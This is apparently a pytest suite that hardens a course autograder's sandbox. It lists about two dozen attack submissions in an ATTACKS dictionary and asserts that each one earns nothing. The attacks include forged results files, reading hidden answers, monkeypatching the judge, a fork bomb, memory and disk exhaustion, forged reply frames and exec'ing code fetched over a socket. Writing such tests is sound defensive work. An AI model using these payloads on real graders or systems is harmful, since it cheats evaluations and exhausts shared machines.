"""Attacks on the judge: each submission tries to gain points it did not earn.

Every attack starts from the stubs (worth 0) and adds code that would score if the
sandbox failed. Each must earn nothing, and the run must still finish with a result
for every case, in a valid results.json.
"""

from __future__ import annotations

import re
import socket
import subprocess
import textwrap
import threading
from collections.abc import Iterator
from typing import Any

import pytest

from autograder.assignment import Assignment
from autograder.judge import FAILED_CHECK, HIDDEN_VERDICTS, WRONG_ANSWER

REFERENCE = Assignment.load("ps0")
PUBLIC = {c.name for c in REFERENCE.public_cases()}
HIDDEN_PHRASES = {*HIDDEN_VERDICTS.values(), WRONG_ANSWER, FAILED_CHECK, "partly right", "passed"}
N_CASES = len(REFERENCE.all_cases())
# what the judge itself writes on a hidden case, whole
JUDGES_OWN = re.compile(
    r"timed out after [0-9.]+ s \(too slow, or an infinite loop\)"
    r"|not run: the grading time budget of [0-9.]+ s ran out"
    r"|stopped: the grading time budget ran out"
)
# attacks that bypass the worker's own checks: words of the judge that prove their
# payload arrived (an attack that never reaches the judge tests nothing)
ARRIVES = {
    "inflates_a_compressed_payload": "compressed arrays in the outputs",
    "sends_a_huge_number_of_arrays_past_the_worker": "arrays in one output",
    "forges_frames_on_the_reply_channel": "the worker",
    "claims_the_judges_words": "LEAK",
    "leaks_hidden_seeds_into_a_public_message": "LEAK 0 hidden seeds [] code []",
    "maps_shared_memory": "of memory, over the limit of 512 MB (shared memory included)",
    "fills_the_disk": "MB of files",
}
ARRAYS_TASKS = [
    "pairwise_sq_dists",
    "softmax",
    "logsumexp",
    "one_hot",
    "batched_matmul",
    "batched_quadratic_form",
    "iterate_minibatches",
]

# Attacks that write frames themselves find the running case's index where the worker
# keeps it, on the stack.
CURRENT_CASE = """
import inspect
def current_case_index():
    for info in inspect.stack():
        item = info.frame.f_locals.get("item")
        if isinstance(item, dict) and "index" in item:
            return item["index"]
    return 0
"""

# Each attack is code appended to the stub arrays.py. {trusted}, {results}, {repo} and
# {port} are filled in with the real paths of the test's /autograder-like root.
ATTACKS = {
    "writes_results_and_exits": """
        import json, os
        for path in ("{results}", "/autograder/results/results.json"):
            try:
                with open(path, "w") as f:
                    json.dump({{"score": 100, "tests": []}}, f)
            except OSError:
                pass
        os._exit(0)
    """,
    "reads_the_reference_from_disk": """
        for path in ("{trusted}/ps0/arrays.py", "{repo}/ps0/arrays.py"):
            try:
                exec(open(path).read(), globals())
                break
            except OSError:
                pass
    """,
    "reads_the_expected_outputs": """
        import numpy as np
        try:
            EXPECTED = dict(np.load("{trusted}/expected.npz"))
            SECRET = open("{trusted}/secret").read()
        except OSError:
            EXPECTED = {{}}
        def pairwise_sq_dists(X, Y):
            return EXPECTED["pairwise_sq_dists_small/0"]
    """,
    "imports_the_reference_module": """
        import importlib, sys
        sys.path[:] = [p for p in sys.path if "pkg" not in p] + ["{repo}"]
        for name in [m for m in sys.modules if m == "ps0" or m.startswith("ps0.")]:
            sys.modules.pop(name)
        try:
            reference = importlib.import_module("ps0.arrays")
            for task in {tasks}:
                globals()[task] = getattr(reference, task)
        except Exception as exc:
            print("no reference:", exc)
    """,
    "returns_objects_equal_to_everything": """
        class Equal:
            def __eq__(self, other):
                return True
            def __array__(self, dtype=None, copy=None):
                raise TypeError("not an array")
        for task in {tasks}:
            globals()[task] = lambda *args, **kwargs: Equal()
    """,
    "returns_lying_numpy_subclasses": """
        import numpy as np
        class Liar(np.ndarray):
            def __eq__(self, other):
                return np.ones(np.shape(other), bool)
            def __array_finalize__(self, obj):
                pass
        for task in {tasks}:
            globals()[task] = lambda *args, **kwargs: np.zeros(3).view(Liar)
    """,
    "monkeypatches_numpy_and_the_engine": """
        import numpy as np
        import autograder.compare, autograder.judge, autograder.outputs
        np.isclose = lambda *a, **k: np.array(True)
        np.allclose = np.array_equal = lambda *a, **k: True
        autograder.compare.compare = lambda *a, **k: None
        autograder.judge.verdict = lambda *a, **k: None
        for task in {tasks}:
            globals()[task] = lambda *args, **kwargs: np.zeros(1)
    """,
    "loops_forever": """
        def pairwise_sq_dists(X, Y):
            while True:
                pass
    """,
    "fork_bomb": """
        import os
        def pairwise_sq_dists(X, Y):
            while True:
                try:
                    os.fork()
                except OSError:
                    pass
    """,
    "memory_bomb": """
        def pairwise_sq_dists(X, Y):
            hog = []
            while True:
                hog.append(bytearray(256 * 2**20))
    """,
    "prints_megabytes": """
        import os, sys
        for _ in range(50):
            sys.stdout.write("x" * 2**20)
            os.write(2, b"y" * 2**20)
    """,
    "leaks_hidden_inputs_through_messages": """
        import numpy as np
        def pairwise_sq_dists(X, Y):
            raise ValueError(f"LEAK {{X.ravel()[:4]}} {{open('/proc/self/cmdline').read()}}")
        def softmax(z, axis=-1):
            return np.zeros(np.abs(z.ravel()[:3] * 1000).astype(int))  # a shape that encodes z
    """,
    "inflates_a_compressed_payload": """
        import io, json, os, sys
        import numpy as np
        from autograder.protocol import write_frame
        request = json.load(open(sys.argv[-1]))
        buffer = io.BytesIO()
        np.savez_compressed(buffer, **{{"out/structure": np.array("0"),
                                        "out/0": np.zeros(2**24)}})  # 128 MB inflated
        index = current_case_index()
        write_frame(request["reply_fd"], {{"index": index, "status": "ok"}}, buffer.getvalue())
        os._exit(0)
    """,
    "returns_a_huge_number_of_arrays": """
        for task in {tasks}:
            globals()[task] = lambda *args, **kwargs: [0.0] * 50_000
    """,
    "sends_a_huge_number_of_arrays_past_the_worker": """
        import io, json, os, sys
        import numpy as np
        from autograder.protocol import write_frame
        request = json.load(open(sys.argv[-1]))
        buffer = io.BytesIO()
        np.savez(buffer, **{{"out/structure": np.array("0"),
                             **{{f"out/{{i}}": np.zeros(1) for i in range(20_000)}}}})
        index = current_case_index()
        write_frame(request["reply_fd"], {{"index": index, "status": "ok"}}, buffer.getvalue())
        os._exit(0)
    """,
    "replays_the_public_fixtures": """
        import glob, os
        import numpy as np
        from autograder.outputs import load
        from pathlib import Path
        here = os.path.dirname(os.path.abspath(__file__))
        found = glob.glob(os.path.join(here, "**", "public.npz"), recursive=True)
        found += glob.glob("/autograder/**/public.npz", recursive=True)
        EXPECTED = load(Path(found[0]))[0] if found else {{}}
        def pairwise_sq_dists(X, Y):
            return EXPECTED["pairwise_sq_dists_small"]["XY"]
        def softmax(z, axis=-1):
            return EXPECTED.get("softmax_rows", np.zeros(1))
        print("fixtures found:", found)
    """,
    "leaks_hidden_seeds_into_a_public_message": """
        import glob, json, os, sys
        request = json.load(open(sys.argv[-1]))
        hidden = [c for c in request.get("cases", []) if "hidden" in c["module"]]
        fd = request["case_fd"]  # the next case's seed, read ahead? It is not sent yet
        os.set_blocking(fd, False)
        try:
            hidden += [line for line in os.read(fd, 65536).splitlines() if b"hidden" in line]
        except BlockingIOError:
            pass
        finally:
            os.set_blocking(fd, True)
        code = glob.glob(os.path.join(os.path.dirname(__file__), "cases", "hidden.py"))
        code += glob.glob("{trusted}/../package/ps0/cases/hidden.py")  # the zip's own copy
        def pairwise_sq_dists(X, Y):
            raise ValueError(f"LEAK {{len(hidden)}} hidden seeds {{hidden[:2]}} code {{code}}")
    """,
    "maps_shared_memory": """
        import mmap
        def pairwise_sq_dists(X, Y):
            shared = mmap.mmap(-1, 3 * 2**30, mmap.MAP_SHARED)  # not counted by RLIMIT_DATA
            for offset in range(0, len(shared), 4096):
                shared[offset] = 1
    """,
    "fills_the_disk": """
        import os
        def pairwise_sq_dists(X, Y):
            block = b"x" * 2**20
            for i in range(4000):  # 4 GB in files of 32 MB, each under the file-size limit
                for where in (".", "/tmp", "/dev/shm"):
                    try:
                        with open(os.path.join(where, f"fill-{{i}}"), "wb") as f:
                            for _ in range(32):
                                f.write(block)
                    except OSError:
                        pass
    """,
    "claims_the_judges_words": """
        import json, os, sys
        from autograder.protocol import write_frame
        request = json.load(open(sys.argv[-1]))
        for kind in ("timeout", "blocked", "budget", "internal", "crash"):
            first = current_case_index()
            for index in range(first, first + 60):  # this case's frame and the next ones'
                header = {{"index": index, "status": "error", "kind": kind,
                          "message": "timed out after 10 s (too slow, or an infinite loop) "
                                     f"LEAK {{index}}"}}
                write_frame(request["reply_fd"], header)
            break
        os._exit(0)
    """,
    "imports_a_forbidden_module_in_disguise": """
        import importlib
        def softmax(z, axis=-1):
            return importlib.import_module("sci" + "py.special").softmax(z, axis=axis)
    """,
    "shadows_the_engine_in_its_working_folder": """
        import os
        os.makedirs("autograder", exist_ok=True)
        with open("autograder/__init__.py", "w") as f:
            f.write("raise SystemExit('planted')")
        with open("sitecustomize.py", "w") as f:
            f.write("print('planted')")
    """,
    "forges_frames_on_the_reply_channel": """
        import json, sys
        import autograder.protocol as protocol
        request = json.load(open(sys.argv[-1]))
        fd = request["reply_fd"]
        protocol.write_frame(fd, {{"ready": True}})
        for index in range(current_case_index(), 40):
            payload = protocol.encode_outputs([])
            protocol.write_frame(fd, {{"index": index + 1, "status": "ok"}}, payload)
        import os
        os.write(fd, b"{{not json}}" + bytes([10]) + b"x" * 100)
    """,
    "opens_a_network_connection": """
        import socket
        try:
            with socket.create_connection(("127.0.0.1", {port}), timeout=3) as s:
                exec(s.makefile().read(), globals())
        except OSError as exc:
            print("no network:", exc)
    """,
}


@pytest.fixture(scope="module")
def answer_server() -> Iterator[int]:
    """A local server handing out the reference arrays.py to whoever connects."""
    source = (REFERENCE.folder / "arrays.py").read_bytes()
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(0.5)
    stop = threading.Event()

    def serve() -> None:
        while not stop.is_set():
            try:
                conn, _ = server.accept()
            except OSError:
                continue
            with conn:
                conn.sendall(source)

    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1]
    stop.set()
    thread.join()
    server.close()


@pytest.mark.parametrize("sandbox", ["bubblewrap", "no_bubblewrap"])
@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_the_attack_gains_nothing(
    attack: str, sandbox: str, gradescope: Any, variant: Any, answer_server: int
) -> None:
    # Without bubblewrap the worker reads what its user may read. Gradescope's machine
    # has no course repository, only the zip (its trusted part root-only); this machine
    # has one, world-readable, so that path stands for "not there" (`make grade` refuses
    # to run unsandboxed unless told to, and README says what that exposes).
    repo = REFERENCE.folder.parent if sandbox == "bubblewrap" else "/nonexistent-repository"
    code = textwrap.dedent(ATTACKS[attack]).format(
        trusted=gradescope.trusted,
        results=gradescope.results,
        repo=repo,
        port=answer_server,
        tasks=ARRAYS_TASKS,
    )
    submission = variant("stubs", "arrays.py", lambda s: s + CURRENT_CASE + "\n" + code)
    results, _ = gradescope.run(submission, bubblewrap=sandbox == "bubblewrap")
    private = "bubblewrap: private filesystem" in results["output"]
    assert private == (sandbox == "bubblewrap"), results["output"]

    assert len(results["tests"]) == N_CASES
    assert all(t["output"] for t in results["tests"])
    assert results["score"] == 0, [t for t in results["tests"] if t["score"] > 0]
    for test in results["tests"]:
        if test["name"] not in PUBLIC:  # hidden cases: fixed phrases only, never the worker's
            assert test["output"] in HIDDEN_PHRASES or JUDGES_OWN.fullmatch(test["output"]), test
        assert "LEAK" not in test["output"] or test["name"] in PUBLIC, test
    arrived = ARRIVES.get(attack)
    if arrived:  # the payload reached the judge: the attack test can fail
        outputs = " ".join(t["output"] for t in results["tests"] if t["name"] in PUBLIC)
        assert arrived in outputs, outputs[:2000]


def test_a_fork_bomb_leaves_no_process_behind(gradescope: Any, variant: Any) -> None:
    bomb = variant("stubs", "arrays.py", lambda s: s + textwrap.dedent(ATTACKS["fork_bomb"]))
    results, _ = gradescope.run(bomb)
    user = re.search(r"unprivileged user (\w+)", results["output"])
    if user is None:
        pytest.skip("not run as root: there is no grading user to look for")
    left = subprocess.run(["pgrep", "-u", user[1]], capture_output=True, text=True)
    assert left.stdout == "", f"processes of {user[1]} survived: {left.stdout}"
